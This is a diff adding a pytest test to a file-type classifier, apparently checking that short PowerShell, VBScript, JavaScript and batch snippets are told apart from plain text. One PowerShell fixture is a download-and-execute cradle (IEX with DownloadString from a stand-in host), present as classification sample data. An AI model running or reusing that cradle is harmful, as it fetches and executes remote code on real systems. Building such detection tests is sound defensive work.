@@ -52,3 +52,17 @@ def test_types_follow_the_mime_table() -> None:
     assert classify("image/png", "PNG image data") == "image/png"
     assert classify("application/x-nothing-known", "data") == "unknown"
     assert identify_bytes(b"").file_type == "empty"
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        (b'$c = New-Object System.Net.WebClient; IEX $c.DownloadString("http://x/a")', "code/powershell"),
+        (b'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n', "code/vbs"),
+        (b"var a = 1;\nfunction f(x) { return x; }\nconst g = () => a;\n", "code/javascript"),
+        (b"@echo off\nset TARGET=%~dp0\\x\ngoto :end\n", "code/batch"),
+        (b"Dear diary, today was a plain text day.\n", "text/plain"),
+    ],
+)
+def test_scripts_that_libmagic_calls_text_are_told_apart(text: bytes, kind: str) -> None:
+    assert identify_bytes(text).file_type == kind
